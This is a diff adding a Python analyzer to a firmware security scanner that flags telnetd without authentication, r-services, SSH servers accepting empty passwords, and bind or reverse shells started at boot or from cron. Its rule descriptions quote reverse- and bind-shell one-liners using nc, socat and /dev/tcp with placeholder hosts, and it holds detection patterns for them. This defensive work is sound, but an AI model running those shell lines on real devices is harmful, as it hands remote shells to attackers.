@@ -1,0 +1,423 @@
+"""FP-SVC: remote shells and logins started at boot, from cron or from inetd.
+
+Every finding points at the line that starts the service (a boot script, inittab,
+a unit file, inetd.conf, a crontab) and carries the chain that leads there.
+"""
+
+from __future__ import annotations
+
+import posixpath
+import re
+from collections.abc import Iterator, Mapping
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+from firmproof.analyzers.base import Analyzer, rule
+from firmproof.bootchain import SHELLS, Invocation, Step, boot_chain
+from firmproof.filetype import ELF
+from firmproof.model import Category, Finding, Rule, Severity
+from firmproof.parsers.elfsyms import read_symbols
+from firmproof.parsers.shell import split_words
+from firmproof.rootfs import RootFS
+
+_DATA = Path(__file__).resolve().parent.parent / "data"  # package data, not image content
+_CWE = "https://cwe.mitre.org/data/definitions/{}.html"
+_BUSYBOX = "https://busybox.net/downloads/BusyBox.html"
+
+TELNETD_WITHOUT_AUTH = rule(
+    "FP-SVC-001", Category.REMOTE_SHELL, Severity.CRITICAL,
+    title="telnetd started at boot without authentication",
+    why="""`telnetd -l /bin/sh` runs a shell instead of a login program: whoever reaches the
+        port gets a root shell without any password, in clear text.""",
+    confirm="""Read the quoted line and its chain (`details.chain`) from init down to it; check that
+        the `-l` program is a shell (`details.login`) and that nothing earlier on the chain
+        prevents the line from running. On a device: `telnet <ip> <port>` gives a prompt at once.""",
+    references=[_BUSYBOX, _CWE.format(306), _CWE.format(912)],
+)
+TELNETD_AT_BOOT = rule(
+    "FP-SVC-002", Category.REMOTE_SHELL, Severity.HIGH,
+    title="telnetd started at boot",
+    why="""A telnet server started at boot offers a login over a clear-text protocol; with the
+        default or hard-coded passwords of embedded devices it is the classic way in (Mirai).
+        Severity drops to info for the stock OpenWrt script, which starts it only while root
+        has no password (`details.guard`).""",
+    confirm="""Read the quoted line and the chain that runs it; `details.login` names the login program
+        and `details.port` the port. Check the accounts of the image for weak or empty passwords.""",
+    references=[_BUSYBOX, _CWE.format(319), "https://openwrt.org/docs/guide-quick-start/walkthrough_login"],
+)
+R_SERVICES = rule(
+    "FP-SVC-003", Category.REMOTE_SHELL, Severity.CRITICAL,
+    title="rsh/rlogin/rexec server started",
+    why="""The Berkeley r-services trust host names and `.rhosts` files and send everything in clear
+        text; rshd and rexecd run commands for the remote side. No device should ship them enabled.""",
+    confirm="""Read the quoted line (boot script or inetd.conf entry) and the chain; look for
+        /etc/hosts.equiv and ~/.rhosts in the image.""",
+    references=[_CWE.format(287), _CWE.format(319)],
+)
+SSH_EMPTY_PASSWORDS = rule(
+    "FP-SVC-004", Category.REMOTE_SHELL, Severity.HIGH,
+    title="SSH server accepts empty passwords",
+    why="""`dropbear -B` or `PermitEmptyPasswords yes` lets any account without a password log in
+        over the network; embedded images often ship root with an empty password.""",
+    confirm="""Read the quoted line; then check /etc/shadow (or /etc/passwd) of the image for accounts
+        with an empty password field.""",
+    references=["https://man.openbsd.org/sshd_config#PermitEmptyPasswords", _CWE.format(258)],
+)
+SSH_AT_BOOT = rule(
+    "FP-SVC-005", Category.REMOTE_SHELL, Severity.INFO,
+    title="SSH server started at boot with password logins",
+    why="""Not a backdoor by itself: an SSH server that accepts passwords is as strong as the
+        passwords of the image, so it is listed to be read together with the credential findings.""",
+    confirm="""Read the quoted line: `details.password_auth` says whether passwords are accepted,
+        `details.root_login` whether root may log in.""",
+    references=["https://matt.ucc.asn.au/dropbear/dropbear.html", "https://man.openbsd.org/sshd"],
+)
+BIND_SHELL = rule(
+    "FP-SVC-006", Category.REMOTE_SHELL, Severity.CRITICAL,
+    title="shell served on a network port (bind shell) at boot",
+    why="""`nc -l -p 9999 -e /bin/sh`, `socat TCP-LISTEN:…,fork EXEC:/bin/sh`, a fifo piped through
+        `nc -l`, or inetd serving /bin/sh: whoever connects to the port gets a shell with the rights
+        of the service (root at boot), with no authentication.""",
+    confirm="""Read the quoted line and the chain that runs it; `details.port` is where the shell
+        listens. On a device: connect to the port and type `id`.""",
+    references=["https://attack.mitre.org/techniques/T1059/004/", _CWE.format(306), _CWE.format(912)],
+)
+REVERSE_SHELL = rule(
+    "FP-SVC-007", Category.REMOTE_SHELL, Severity.CRITICAL,
+    title="reverse shell started at boot or from cron",
+    why="""`nc HOST PORT -e /bin/sh`, `bash -i >& /dev/tcp/HOST/PORT 0>&1` or `socat EXEC:sh TCP:HOST:PORT`
+        hands a shell to a remote host: the device calls out to whoever controls `details.host`.""",
+    confirm="""Read the quoted line and its chain; `details.host` and `details.port` name the remote
+        end. Nothing legitimate ships such a line.""",
+    references=["https://attack.mitre.org/techniques/T1059/004/", _CWE.format(912)],
+)
+BIND_SHELL_PROGRAM = rule(
+    "FP-SVC-008", Category.REMOTE_SHELL, Severity.CRITICAL,
+    title="unknown program started at boot binds a port and runs a shell",
+    why="""A program that is no known daemon, started by the boot chain, imports socket, bind and
+        listen/accept together with an exec function, and holds the string of a shell: the shape
+        of a compiled bind shell.""",
+    confirm="""Read the quoted boot line; `details.binary` is the program and `details.binary_sha256`
+        its hash. Disassemble it (or run it in an emulator) and look for the bind/accept loop
+        that dup2()s the socket onto 0/1/2 before exec'ing the shell.""",
+    references=["https://attack.mitre.org/techniques/T1059/004/", _CWE.format(912)],
+)
+
+TELNETD_NAMES = frozenset({"telnetd", "utelnetd", "in.telnetd", "telnetd.busybox"})
+R_NAMES = frozenset({"rshd", "in.rshd", "rlogind", "in.rlogind", "rexecd", "in.rexecd"})
+NC_NAMES = frozenset({"nc", "netcat", "ncat", "nc.traditional", "nc.openbsd", "pnc"})
+_NC_VALUE_OPTS = set("ecgGiopswqIMmOPTVXx")
+_NC_LONG_VALUE_OPTS = frozenset({"exec", "sh-exec", "lua-exec", "source", "source-port", "wait",
+                                 "idle-timeout", "proxy", "proxy-type", "proxy-auth", "output",
+                                 "hex-dump", "max-conns", "allow", "allowfile", "deny", "denyfile"})
+_TELNETD_VALUE_OPTS = set("lpbfwuPtL")
+_EXEC_IMPORTS = ("execve", "execl", "execlp", "execle", "execv", "execvp", "execvpe", "system",
+                 "popen", "posix_spawn", "posix_spawnp")
+_SHELL_STRING = re.compile(rb"/bin/(?:ba|a|da|k|mk|z)?sh(?![A-Za-z0-9_])")
+_DEV_TCP = re.compile(r"^/dev/(tcp|udp)/([^/]+)/(\d+)")
+_SOCAT_CONNECT = frozenset({"TCP", "TCP4", "TCP6", "TCP-CONNECT", "TCP4-CONNECT", "TCP6-CONNECT",
+                            "OPENSSL", "OPENSSL-CONNECT", "SSL", "UDP", "UDP4", "UDP6",
+                            "UDP-CONNECT", "SCTP", "SCTP-CONNECT"})
+_DETAILS_TEXT_MAX = 200
+_SCRIPT_DIRS = ("/etc/init.d/", "/etc/rc.d/", "/etc/rc", "/etc/init/", "/etc/sv/")
+
+
+@cache
+def known_daemons() -> frozenset[str]:
+    text = (_DATA / "known-daemons.txt").read_text("utf-8")
+    return frozenset(line.strip() for line in text.splitlines()
+                     if line.strip() and not line.startswith("#"))
+
+
+def _options(args: tuple[str, ...] | list[str], with_value: set[str] | frozenset[str],
+             maybe_value: set[str] | frozenset[str] = frozenset(),
+             long_with_value: frozenset[str] = frozenset()) -> tuple[dict[str, str | bool], list[str]]:
+    """getopt-like: short options (grouped or not), '--long[=value]', positional arguments."""
+    opts: dict[str, str | bool] = {}
+    positional: list[str] = []
+    i = 0
+    while i < len(args):
+        a = args[i]
+        if a == "--":
+            positional.extend(args[i + 1:])
+            break
+        if a.startswith("--") and len(a) > 2:
+            name, eq, value = a[2:].partition("=")
+            if not eq and name in long_with_value and i + 1 < len(args):
+                i += 1
+                value, eq = args[i], "="
+            opts[name] = value if eq else True
+        elif a.startswith("-") and len(a) > 1:
+            letters = a[1:]
+            for j, ch in enumerate(letters):
+                takes = ch in with_value or (ch in maybe_value and j == len(letters) - 1
+                                             and i + 1 < len(args) and not args[i + 1].startswith("-"))
+                if takes:
+                    value = letters[j + 1:]
+                    if not value and i + 1 < len(args):
+                        i += 1
+                        value = args[i]
+                    opts[ch] = value
+                    break
+                opts[ch] = True
+        else:
+            positional.append(a)
+        i += 1
+    return opts, positional
+
+
+def _port(value: object) -> int | None:
+    if isinstance(value, str):
+        tail = value.rsplit(":", 1)[-1]
+        if tail.isdigit():
+            return int(tail)
+    return None
+
+
+def _is_shell(command: str) -> bool:
+    """True when a program (or a command string) is a shell: sh, ash, bash, 'busybox sh'…"""
+    words = split_words(command) if " " in command.strip() else [command.strip()]
+    if not words:
+        return False
+    name = posixpath.basename(words[0].lstrip("-"))
+    if name == "busybox" and len(words) > 1:
+        name = posixpath.basename(words[1])
+    return name in SHELLS
+
+
+def _interactive_shell(inv: Invocation) -> bool:
+    """A shell reading commands from its input: `sh`, `sh -i`, `/bin/bash -i` (not `sh script`)."""
+    if not inv.argv or posixpath.basename(inv.argv[0].lstrip("-")) not in SHELLS:
+        return False
+    return all(a.startswith("-") and a != "-c" for a in inv.argv[1:])
+
+
+def _clip(text: str) -> str:
+    return text if len(text) <= _DETAILS_TEXT_MAX else text[:_DETAILS_TEXT_MAX] + "…"
+
+
+class Services(Analyzer):
+    family = "SVC"
+    name = "services"
+    rules = (TELNETD_WITHOUT_AUTH, TELNETD_AT_BOOT, R_SERVICES, SSH_EMPTY_PASSWORDS, SSH_AT_BOOT,
+             BIND_SHELL, REVERSE_SHELL, BIND_SHELL_PROGRAM)
+
+    def run(self, fs: RootFS) -> Iterator[Finding]:
+        seen: set[tuple[str, str, int, int]] = set()
+        checked_binaries: dict[str, dict[str, Any] | None] = {}
+        chain = boot_chain(fs)
+        for step in chain.steps:
+            for finding in self._step(fs, step, checked_binaries, chain.scripts):
+                key = (finding.rule.id, finding.path, finding.evidence.offset, finding.evidence.length)
+                if key not in seen:
+                    seen.add(key)
+                    yield finding
+        yield from self._sshd_configs(fs)
+
+    # one step ----------------------------------------------------------------------
+
+    def _step(self, fs: RootFS, step: Step, binaries: dict[str, dict[str, Any] | None],
+              scripts: Mapping[str, tuple[str, ...]]) -> Iterator[Finding]:
+        name = step.name
+        if (step.binary is not None and step.binary in scripts) or \
+                (step.program is None and step.argv[0].startswith(_SCRIPT_DIRS)):
+            # an init script named after its daemon (/etc/init.d/dropbear enabled): not the daemon
+            yield from self._shells(fs, step)
+            return
+        if name in TELNETD_NAMES:
+            yield self._telnetd(fs, step)
+        elif name in R_NAMES:
+            yield self._at(R_SERVICES, fs, step, service=name)
+        elif name in ("dropbear", "sshd") or (name == "dropbearmulti" and step.argv[1:2] == ("dropbear",)):
+            yield self._ssh(fs, step)
+        yield from self._shells(fs, step)
+        if step.binary is not None and name not in known_daemons():
+            found = self._bind_shell_binary(fs, step.binary, binaries)
+            if found is not None:
+                yield self._at(BIND_SHELL_PROGRAM, fs, step, binary=step.program or step.binary,
+                               binary_sha256=fs.sha256(step.binary), **found)
+
+    def _common(self, step: Step) -> dict[str, Any]:
+        details: dict[str, Any] = {"chain": list(step.full_chain), "via": step.via,
+                                   "command": _clip(" ".join(step.argv))}
+        if step.conditions:
+            details["conditions"] = [_clip(f"{kind} {text}") for kind, text in step.conditions]
+        if not step.reached:
+            details["reached"] = False
+            details["note"] = ("no init in this tree: the script is treated as started at boot "
+                               "because nothing here says otherwise")
+        return details
+
+    def _at(self, r: Rule, fs: RootFS, step: Step, *, severity: Severity | None = None,
+            title: str | None = None, **details: Any) -> Finding:
+        merged = self._common(step)
+        merged.update(details)
+        return r.at(fs, step.path, step.start, step.end - step.start, title=title, severity=severity,
+                    **merged)
+
+    def _telnetd(self, fs: RootFS, step: Step) -> Finding:
+        opts, _ = _options(step.argv[1:], _TELNETD_VALUE_OPTS, maybe_value={"i"})
+        login_opt = opts.get("L") if step.name == "in.telnetd" and "L" in opts else opts.get("l")
+        login = login_opt if isinstance(login_opt, str) else "/bin/login"
+        auth: bool | None = None if "$" in login else not _is_shell(login)
+        port = _port(opts.get("p")) or step.port or 23
+        details: dict[str, Any] = {"auth": auth, "login": login, "port": port}
+        if isinstance(opts.get("u"), str):
+            details["fixed_account"] = str(opts["u"]).split(":", 1)[0]
+        if auth is False:
+            return self._at(TELNETD_WITHOUT_AUTH, fs, step, **details)
+        guard = next((text for kind, text in step.conditions if "has_root_pwd" in text), None)
+        if guard is not None:
+            details["guard"] = _clip(guard)
+            return self._at(TELNETD_AT_BOOT, fs, step, severity=Severity.INFO,
+                            title="telnetd started at boot only while root has no password", **details)
+        return self._at(TELNETD_AT_BOOT, fs, step, **details)
+
+    def _ssh(self, fs: RootFS, step: Step) -> Finding:
+        args = step.argv[2:] if step.name == "dropbearmulti" else step.argv[1:]
+        if step.name in ("dropbear", "dropbearmulti"):
+            opts, _ = _options(args, set("pPrbdRWKIJcTa"))
+            port = _port(opts.get("p")) or 22
+            if "B" in opts:
+                return self._at(SSH_EMPTY_PASSWORDS, fs, step, server="dropbear", port=port,
+                                option="-B")
+            return self._at(SSH_AT_BOOT, fs, step, server="dropbear", port=port,
+                            password_auth="s" not in opts, root_login="w" not in opts,
+                            root_password_auth="s" not in opts and "g" not in opts)
+        opts, _ = _options(args, set("bcCEfgHhikoOpuV"))
+        config_path = opts.get("f") if isinstance(opts.get("f"), str) else "/etc/ssh/sshd_config"
+        settings = _sshd_settings(fs.text(str(config_path)) or "")
+        password = settings.get("passwordauthentication", ("yes", 0, 0))[0].lower() != "no"
+        root = settings.get("permitrootlogin", ("prohibit-password", 0, 0))[0].lower()
+        return self._at(SSH_AT_BOOT, fs, step, server="sshd", port=_port(opts.get("p")) or 22,
+                        password_auth=password, root_login=root)
+
+    # shells on the network ---------------------------------------------------------
+
+    def _shells(self, fs: RootFS, step: Step) -> Iterator[Finding]:
+        own = Invocation(step.argv, step.redirects, step.pipeline)
+        # a service manager (inetd, xinetd, a socket unit) serving a shell on a port
+        if step.port is not None and _interactive_shell(own):
+            yield self._at(BIND_SHELL, fs, step, port=step.port, shell=step.argv[0])
+            return
+        name = step.name
+        if name in NC_NAMES:
+            yield from self._netcat(fs, step, own)
+        elif name == "socat":
+            yield from self._socat(fs, step)
+        elif name == "telnet" and any(_interactive_shell(i) for i in step.line):
+            _, positional = _options(step.argv[1:], set("belnX"))
+            yield self._at(REVERSE_SHELL, fs, step, host=positional[0] if positional else None,
+                           port=_port(positional[1]) if len(positional) > 1 else 23, tool="telnet")
+        for target in (t for _, t in step.redirects):
+            m = _DEV_TCP.match(target)
+            if m and (_interactive_shell(own) or any(_interactive_shell(i) for i in step.line)):
+                yield self._at(REVERSE_SHELL, fs, step, host=m.group(2), port=int(m.group(3)),
+                               protocol=m.group(1), tool="/dev/" + m.group(1))
+
+    def _netcat(self, fs: RootFS, step: Step, own: Invocation) -> Iterator[Finding]:
+        opts, positional = _options(step.argv[1:], _NC_VALUE_OPTS, long_with_value=_NC_LONG_VALUE_OPTS)
+        listen = "l" in opts or "listen" in opts
+        program = next((v for k, v in opts.items()
+                        if k in ("e", "c", "exec", "sh-exec") and isinstance(v, str)), None)
+        shell_exec = program is not None and _is_shell(program)
+        shell_piped = any(_interactive_shell(i) for i in step.line if i != own)
+        if not (shell_exec or shell_piped):
+            return
+        numbers = [p for p in positional if p.isdigit()]
+        hosts = [p for p in positional if not p.isdigit()]
+        port = _port(opts.get("p")) or (int(numbers[-1]) if numbers else None)
+        how = "exec" if shell_exec else "pipe"
+        if listen:
+            yield self._at(BIND_SHELL, fs, step, port=port, tool=step.name, shell=program, how=how)
+        elif hosts:
+            yield self._at(REVERSE_SHELL, fs, step, host=hosts[0], port=port, tool=step.name,
+                           shell=program, how=how)
+
+    def _socat(self, fs: RootFS, step: Step) -> Iterator[Finding]:
+        _, addresses = _options(step.argv[1:], set("dlLtTUbW"))
+        listen_port: int | None = None
+        connect: tuple[str, int | None] | None = None
+        shell: str | None = None
+        for address in addresses:
+            head, _, rest = address.partition(":")
+            kind = head.split(",")[0].upper()
+            if kind.endswith(("-LISTEN", "-L")):
+                listen_port = _port(rest.split(",")[0]) or listen_port or 0
+            elif kind in ("EXEC", "SYSTEM"):
+                command = rest.split(",")[0].strip("'\"")
+                if _is_shell(command):
+                    shell = command
+            elif kind in _SOCAT_CONNECT:
+                host, _, port = rest.split(",")[0].rpartition(":")
+                connect = (host, int(port) if port.isdigit() else None)
+        if shell is None:
+            return
+        if listen_port is not None:
+            yield self._at(BIND_SHELL, fs, step, port=listen_port or None, tool="socat", shell=shell)
+        elif connect is not None:
+            yield self._at(REVERSE_SHELL, fs, step, host=connect[0], port=connect[1], tool="socat",
+                           shell=shell)
+
+    # compiled bind shells ----------------------------------------------------------
+
+    @staticmethod
+    def _bind_shell_binary(fs: RootFS, path: str,
+                           cache_: dict[str, dict[str, Any] | None]) -> dict[str, Any] | None:
+        if path in cache_:
+            return cache_[path]
+        result: dict[str, Any] | None = None
+        entry = fs.stat(path)
+        data = fs.read(path) if entry is not None and entry.ftype == ELF else None
+        if data is not None and posixpath.basename(path) not in known_daemons() and b"BusyBox v" not in data:
+            symbols = read_symbols(data)
+            shell = _SHELL_STRING.search(data)
+            if symbols is not None and shell is not None:
+                imports = symbols.imports
+                execs = sorted(n for n in _EXEC_IMPORTS if n in imports)
+                if {"socket", "bind"} <= imports and imports & {"listen", "accept", "accept4"} and execs:
+                    result = {
+                        "imports": sorted(n for n in ("socket", "bind", "listen", "accept", "accept4",
+                                                      "dup2", "dup3", *execs) if n in imports),
+                        "symbols_from": symbols.source,
+                        "shell_string": shell.group().decode("latin-1"),
+                        "shell_string_offset": shell.start(),
+                    }
+        cache_[path] = result
+        return result
+
+    # sshd_config -------------------------------------------------------------------
+
+    def _sshd_configs(self, fs: RootFS) -> Iterator[Finding]:
+        for entry in fs.files():
+            if entry.name != "sshd_config":
+                continue
+            text = fs.text(entry.path) or ""
+            settings = _sshd_settings(text)
+            value, start, end = settings.get("permitemptypasswords", ("no", 0, 0))
+            if value.lower() == "yes" and end > start:
+                root = settings.get("permitrootlogin", ("prohibit-password", 0, 0))[0]
+                yield SSH_EMPTY_PASSWORDS.at(fs, entry.path, start, end - start, server="sshd",
+                                             option="PermitEmptyPasswords yes", permit_root_login=root)
+
+
+def _sshd_settings(text: str) -> dict[str, tuple[str, int, int]]:
+    """sshd_config keywords (lower case) -> (value, line start, line end); the first value wins,
+    as sshd reads it; `Match` blocks are read too (they can only add a case where it applies)."""
+    out: dict[str, tuple[str, int, int]] = {}
+    pos = 0
+    for raw in text.splitlines(keepends=True):
+        line = raw.rstrip("\r\n")
+        stripped = line.strip()
+        if stripped and not stripped.startswith("#"):
+            parts = re.split(r"[\s=]+", stripped, maxsplit=1)
+            if len(parts) == 2:
+                key = parts[0].lower()
+                start = pos + (len(line) - len(line.lstrip()))
+                if key == "permitemptypasswords" and parts[1].strip().lower() == "yes":
+                    out[key] = (parts[1].strip(), start, start + len(stripped))
+                else:
+                    out.setdefault(key, (parts[1].strip(), start, start + len(stripped)))
+        pos += len(raw)
+    return out
